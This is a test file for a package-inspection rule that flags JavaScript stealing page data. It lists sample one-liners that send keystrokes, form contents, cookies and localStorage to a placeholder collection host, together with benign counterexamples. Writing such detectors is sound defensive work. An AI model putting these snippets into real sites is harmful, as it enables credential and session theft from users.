"""Code that takes what people type or keep in a page, and sends it to an address of its own."""

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import found_in

RULE = "page-theft"
AT = "https://collect.example.invalid/x"


@pytest.mark.parametrize(
    "code",
    [
        f"document.addEventListener('keydown', (e) => fetch('{AT}?' + e.key));",
        f"form.onsubmit = () => navigator.sendBeacon(`{AT}`, new FormData(form));",
        f"$.ajax({{ type: 'POST', url: '{AT}', data: $('form').serialize() }});",
        f"new Image().src = '{AT}?' + escape(document.cookie);",
        f"var x = new XMLHttpRequest(); x.open('POST', '{AT}'); x.send(document.cookie);",
        f"fetch('{AT}', {{ method: 'POST', body: JSON.stringify(localStorage) }});",
    ],
    ids=["keys", "a form", "jQuery", "a picture", "XMLHttpRequest", "what is kept"],
)
def test_taking_and_sending_is_high(code: str) -> None:
    (finding,) = found_in(f"exports.a = 1;\n{code}\n", rule=RULE)
    assert (finding.severity, finding.path, finding.line) == (Severity.HIGH, "index.js", 2)


@pytest.mark.parametrize(
    "code",
    [
        "document.addEventListener('keydown', (e) => e.key === 'Escape' && close());",
        "fetch('/api/login', { method: 'POST', body: new FormData(form) });",
        "fetch(address, { headers: { 'X-XSRF': /xsrf=([^;]+)/.exec(document.cookie)[1] } });",
        f"document.cookie = 'seen=1';\nfetch('{AT}');",
        f"// fetch('{AT}', {{ body: document.cookie }})",
        "fetch('http://localhost:3000/', { body: new FormData(form) });",
    ],
    ids=["keys alone", "its own server", "the user's address", "a set cookie", "remark", "local"],
)
def test_what_pages_do_is_nothing(code: str) -> None:
    assert found_in(f"exports.a = 1;\n{code}\n", rule=RULE) == []
